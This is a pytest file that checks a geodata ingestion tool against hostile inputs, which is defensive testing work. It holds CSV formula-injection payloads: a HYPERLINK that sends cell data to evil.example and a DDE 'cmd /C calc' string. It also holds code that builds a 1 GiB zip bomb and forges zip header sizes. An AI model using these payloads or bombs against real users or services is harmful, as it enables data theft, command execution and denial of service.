"""A catalogue of hostile files, built in code: formula injection, zip bombs, bad geometry cells, implausible
values, control characters, title rows, mixed encodings. Each case checks the report's rows (line, field,
severity, reason) and that every input row is either accepted or listed."""

from __future__ import annotations

import csv
import json
import struct
import subprocess
import sys
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from geo.errors import InputRejected
from geo.ingest import IngestOptions, ingest_file, write_report
from tests.conftest import inside_point

ROOT = Path(__file__).resolve().parents[1]
XIHU = "330106"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd"]


@pytest.fixture()
def here(counties):
    return inside_point(counties, XIHU)


def _report(result) -> list[tuple[int, str, str, str]]:
    r = result.report
    return list(zip(r["line"].astype(int), r["field"], r["severity"], r["reason"], strict=True))


def _accounted(result, lines: list[int]) -> None:
    """Every data line is accepted or listed as rejected, never both, never neither."""
    r = result.report
    rejected = set(r.loc[r["severity"] == "rejected", "line"].astype(int))
    assert result.rows == len(lines) and result.accepted + result.rejected == len(lines)
    assert len(rejected) == result.rejected and rejected <= set(lines)


def _cells(path: Path, column: str) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [row[column] for row in csv.DictReader(fh)]


# -- 1. CSV formula injection --------------------------------------------------------------------------
def test_formulas_are_stored_as_filed_and_neutralised_in_every_csv(store, tmp_path, here):
    from geo.build import build
    from geo.export import export_records
    from layers.export import export_layer

    lon, lat = here
    names = [*FORMULAS, "\t=1+1", "-12.5", "普通企业"]
    frame = pd.DataFrame({"id": [f"F{i}" for i in range(len(names))], "name": names, "domain": "fire"})
    frame["lon"], frame["lat"] = lon, lat
    path = tmp_path / "f.csv"
    frame.to_csv(path, index=False)
    with open(path, "a", encoding="utf-8") as fh:
        fh.write(f"=1+2,x,nope,{lon},{lat}\n")  # an id that is a formula, rejected: it goes into the report
    result = ingest_file(store, path, "enterprises")
    _accounted(result, list(range(2, 2 + len(names) + 1)))
    assert store.read("enterprises").set_index("id")["name"].to_dict()["F4"] == "\t=1+1"  # the tab is kept
    escaped = ["'" + n for n in FORMULAS] + ["'\t=1+1", "-12.5", "普通企业"]

    before = tmp_path / "records.csv"
    export_records(store, "enterprises", "csv", before)
    assert _cells(before, "name") == escaped
    assert all(float(v) == pytest.approx(lon) for v in _cells(before, "lon"))  # numbers untouched

    report = tmp_path / "report.csv"
    write_report(result.report, report)
    assert _cells(report, "id") == ["'=1+2"]

    snap, _ = build(store, date(2026, 1, 1))
    after = tmp_path / "scored.csv"
    export_layer(snap, store.read("boundaries"), "enterprises", "csv", after)
    assert sorted(_cells(after, "name")) == sorted(escaped)


def test_hazard_names_are_neutralised_in_the_hazard_export(store, tmp_path, here):
    from geo.build import build
    from layers.export import export_layer

    lon, lat = here
    path = tmp_path / "e.csv"
    path.write_text(f"id,domain,lon,lat\nE1,fire,{lon},{lat}\n", encoding="utf-8")
    ingest_file(store, path, "enterprises")
    hz = tmp_path / "h.csv"
    hz.write_text(f'id,type,name,lon,lat\nH1,地面塌陷,"@SUM(A1)",{lon},{lat}\n', encoding="utf-8")
    ingest_file(store, hz, "hazards")
    snap, _ = build(store, date(2026, 1, 1))
    out = tmp_path / "hz.csv"
    export_layer(snap, store.read("boundaries"), "hazards", "csv", out)
    assert _cells(out, "name") == ["'@SUM(A1)"]


# -- 2. zip bombs --------------------------------------------------------------------------------------
def _bomb(path: Path, size: int = 1 << 30) -> Path:
    """A zipped 'Shapefile' whose .dbf inflates to `size` bytes of zeros (about a thousandth of it zipped)."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("sites.shp", b"\0" * 100)
        zf.writestr("sites.shx", b"\0" * 100)
        with zf.open("sites.dbf", "w", force_zip64=True) as fh:
            block = b"\0" * (1 << 20)
            for _ in range(size >> 20):
                fh.write(block)
    return path


_MEASURE = """
import json, resource, sys, time
from geo.errors import InputRejected
from geo.readers import read_table
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
t0 = time.perf_counter()
try:
    read_table(sys.argv[1])
    message = None
except InputRejected as exc:
    message = str(exc)
seconds = time.perf_counter() - t0
grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
print(json.dumps({"message": message, "seconds": seconds, "grown_mb": grown}))
"""


def test_a_one_gib_zip_bomb_is_refused_fast_and_small(tmp_path):
    bomb = _bomb(tmp_path / "bomb.zip")
    assert bomb.stat().st_size < 2 << 20
    out = subprocess.run(
        [sys.executable, "-c", _MEASURE, str(bomb)], cwd=ROOT, capture_output=True, text=True, check=True, timeout=120
    )
    got = json.loads(out.stdout)
    assert got["message"] and "member 'sites.dbf'" in got["message"] and "zip bomb" in got["message"]
    assert got["seconds"] < 1.0 and got["grown_mb"] < 100, got


def test_a_member_that_inflates_beyond_its_declared_size_is_refused(tmp_path):
    path = tmp_path / "liar.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("sites.shp", b"\0" * 100)
        zf.writestr("sites.dbf", b"\0" * (4 << 20))
    with zipfile.ZipFile(path) as zf:
        local = zf.getinfo("sites.dbf").header_offset
    data = bytearray(path.read_bytes())
    declared = 1000  # below the ratio's threshold: only the extraction's cap can catch it
    struct.pack_into("<I", data, local + 22, declared)  # the local header's uncompressed size
    central = data.index(b"PK\x01\x02", data.rindex(b"sites.dbf") - 46)
    assert data[central + 46 : central + 55] == b"sites.dbf"
    struct.pack_into("<I", data, central + 24, declared)  # the central directory's
    path.write_bytes(bytes(data))
    with pytest.raises(InputRejected, match="member 'sites.dbf'"):
        _read(path)


def _read(path: Path):
    from geo.readers import read_table

    return read_table(path)


def test_an_xlsx_bomb_is_refused_before_openpyxl_opens_it(tmp_path):
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            for _ in range(64):
                fh.write(b" " * (1 << 20))
    with pytest.raises(InputRejected, match="member 'xl/worksheets/sheet1.xml'.*zip bomb"):
        _read(path)


# -- 3. per row, never per file ------------------------------------------------------------------------
def test_bad_or_blank_wkt_rejects_its_row_only(store, tmp_path, here):
    lon, lat = here
    path = tmp_path / "h.csv"
    path.write_text(
        f"id,type,wkt\nH1,地面塌陷,NOTWKT\nH2,地面塌陷,\nH3,地面塌陷,POINT ({lon} {lat})\nH4,地面塌陷,POINT (1\n",
        encoding="utf-8",
    )
    result = ingest_file(store, path, "hazards")
    assert _report(result) == [
        (2, "wkt", "rejected", "'NOTWKT' is not valid WKT (e.g. POINT (120.1 30.2))"),
        (3, "wkt", "rejected", "no geometry: the wkt cell is empty"),
        (5, "wkt", "rejected", "'POINT (1' is not valid WKT (e.g. POINT (120.1 30.2))"),
    ]
    _accounted(result, [2, 3, 4, 5])
    assert store.read("hazards")["id"].tolist() == ["H3"]


def test_geometry_collections_of_hazard_sites(store, tmp_path, here):
    lon, lat = here
    mixed = f"GEOMETRYCOLLECTION (POINT ({lon} {lat}), LINESTRING ({lon} {lat}, {lon + 0.001} {lat}))"
    points = f"GEOMETRYCOLLECTION (POINT ({lon} {lat}), POINT ({lon + 0.001} {lat}))"
    path = tmp_path / "gc.csv"
    path.write_text(f'id,type,wkt\nG1,地面塌陷,"{mixed}"\nG2,地面塌陷,"{points}"\n', encoding="utf-8")
    result = ingest_file(store, path, "hazards")
    (line1, field1, sev1, why1), (line2, field2, sev2, why2) = _report(result)
    assert (line1, field1, sev1) == (2, "geometry", "rejected") and "GeometryCollection is not accepted" in why1
    assert (line2, field2, sev2, why2) == (
        3,
        "geometry",
        "warning",
        "GeometryCollection of one kind stored as MultiPoint",
    )
    assert store.read("hazards").geometry.iloc[0].geom_type == "MultiPoint"
    _accounted(result, [2, 3])


# -- 4. plausibility and control characters ------------------------------------------------------------
def test_implausible_values_are_warned_of_and_stored(store, tmp_path, here):
    lon, lat = here
    ent = tmp_path / "e.csv"
    ent.write_bytes(
        f"id,name,domain,lon,lat,workers\nE1,A\x00B,fire,{lon},{lat},5000000\nE2,ok,fire,{lon},{lat},10\n".encode()
    )
    result = ingest_file(store, ent, "enterprises")
    assert _report(result) == [
        (
            2,
            "name",
            "warning",
            "control character(s) U+0000 removed (they cannot be exported); the rest of the value is kept",
        ),
        (2, "workers", "warning", "5,000,000 is implausible (expected at most 200,000); stored as filed, check it"),
    ]
    stored = store.read("enterprises").set_index("id")
    assert stored.loc["E1", "name"] == "AB" and stored.loc["E1", "workers"] == 5_000_000
    _accounted(result, [2, 3])

    ev = tmp_path / "ev.csv"
    ev.write_text(
        "enterprise_id,type,found_date,deaths,injuries\nE1,accident,2099-01-01,1000000000,0\n"
        "E1,accident,1900-01-01,2,20000\nE2,accident,2020-01-01,1,1\n",
        encoding="utf-8",
    )
    result = ingest_file(store, ev, "events", IngestOptions(today=date(2026, 1, 1)))
    assert _report(result) == [
        (2, "found_date", "warning", "2099-01-01 is after today (2026-01-01); stored as filed, check it"),
        (2, "deaths", "warning", "1,000,000,000 is implausible (expected at most 1,000); stored as filed, check it"),
        (3, "found_date", "warning", "1900-01-01 is before 1949-01-01; stored as filed, check it"),
        (3, "injuries", "warning", "20,000 is implausible (expected at most 10,000); stored as filed, check it"),
    ]
    assert result.accepted == 3 and len(store.read("events")) == 3


def test_plausible_ranges_are_declared_and_validated():
    from geo.fields import load_contract

    events = {f.name: f.plausible for f in load_contract("events").fields if f.plausible}
    assert events["deaths"].max == 1000 and events["found_date"].min == date(1949, 1, 1)
    assert events["found_date"].max == "today"


# -- 5. header detection, mixed encodings --------------------------------------------------------------
def test_xlsx_with_merged_title_rows_finds_its_header(store, tmp_path, here):
    lon, lat = here
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["杭州市安全生产风险普查 企业清单"])
    ws.merge_cells("A1:E1")
    ws.append(["填报单位：西湖区应急管理局", None, None, "2026年1月"])
    ws.append(["企业编号", "企业名称", "领域", "经度", "纬度"])
    ws.append(["X1", "甲", "消防", lon, lat])
    ws.append([])
    ws.append(["X2", "乙", "nope", lon, lat])
    path = tmp_path / "title.xlsx"
    wb.save(path)
    result = ingest_file(store, path, "enterprises")
    assert "header on row 3: the 2 rows above it skipped as a title" in result.notes
    assert [(line, field, sev) for line, field, sev, _ in _report(result)] == [(6, "domain", "rejected")]
    assert store.read("enterprises")["source_line"].tolist() == [4]
    _accounted(result, [4, 6])


def test_csv_with_a_title_line_finds_its_header(store, tmp_path, here):
    lon, lat = here
    path = tmp_path / "title.csv"
    path.write_text(
        f"杭州市企业风险普查表,,,,\n,,,,\nid,name,domain,lon,lat\nY1,甲,fire,{lon},{lat}\nY2,乙,,{lon},{lat}\n",
        encoding="utf-8",
    )
    result = ingest_file(store, path, "enterprises")
    assert "header on line 3: the 2 lines above it skipped as a title" in result.notes
    assert [(line, field, sev) for line, field, sev, _ in _report(result)] == [(5, "domain", "rejected")]
    _accounted(result, [4, 5])


def test_a_gbk_line_in_a_utf8_file_is_named(store, tmp_path, here):
    lon, lat = here
    head = f"id,name,domain,lon,lat\nM1,甲公司,fire,{lon},{lat}\n".encode()
    gbk = f"M2,乙公司,fire,{lon},{lat}\n".encode("gbk")
    broken = f"M3,x,fire,{lon},{lat}\n".encode().replace(b"x", b"\xff\xfe")
    path = tmp_path / "mixed.csv"
    path.write_bytes(head + gbk + broken + f"M4,丁,fire,{lon},{lat}\n".encode())
    result = ingest_file(store, path, "enterprises")
    assert _report(result) == [
        (
            3,
            "row",
            "warning",
            "line 3: this line is GBK/GB18030, the rest of the file UTF-8; read as GB18030, check it",
        ),
        (4, "row", "rejected", "line 4: this line is neither UTF-8 (like the rest of the file) nor GBK/GB18030"),
    ]
    assert store.read("enterprises").set_index("id")["name"].to_dict() == {"M1": "甲公司", "M2": "乙公司", "M4": "丁"}
    _accounted(result, [2, 3, 4, 5])
